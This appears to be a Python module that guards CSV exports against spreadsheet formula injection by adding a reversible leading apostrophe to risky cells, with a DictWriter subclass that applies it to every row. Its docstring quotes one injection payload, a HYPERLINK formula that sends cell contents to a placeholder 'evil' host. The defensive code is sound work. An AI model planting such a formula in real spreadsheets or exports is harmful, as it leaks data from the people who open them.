"""CSV cells that a spreadsheet will not run as formulas (CSV injection), reversibly.

A cell that begins with = + - @ (or a tab or carriage return, which some
spreadsheets skip before looking) is read by Excel, LibreOffice and Google Sheets
as a formula: an exported text such as `=HYPERLINK("http://evil/?"&A1)` would run
on the steward's machine. Following OWASP, such a cell gets a leading apostrophe,
which spreadsheets show as "this is text" and do not display.

Reversible, so that a CSV exported, edited and submitted back as a change set
(kg.csv_import) keeps its values: `restore` removes exactly one leading apostrophe
when what follows it starts with one of those characters. To make that exact for
every value, a value that already begins with apostrophes followed by one of them
("'=x") gets one more too, so restore(neutralise(v)) == v for every string v.

One writer for every CSV download of rows (kg.export.to_csv, `kg export measures`,
and the web's /measures?format=csv): `DictWriter`.
"""
from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _needs_quote(value: str) -> bool:
    return value.lstrip("'").startswith(FORMULA_START) if value.startswith("'") else value.startswith(FORMULA_START)


def neutralise(value: Any) -> Any:
    """The cell as written to CSV: a leading apostrophe before a formula start."""
    if isinstance(value, str) and value and _needs_quote(value):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The cell as read from CSV: the inverse of neutralise."""
    if value.startswith("'") and _needs_quote(value[1:]):
        return value[1:]
    return value


class DictWriter(csv.DictWriter):
    """csv.DictWriter that neutralises every cell."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: neutralise(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)
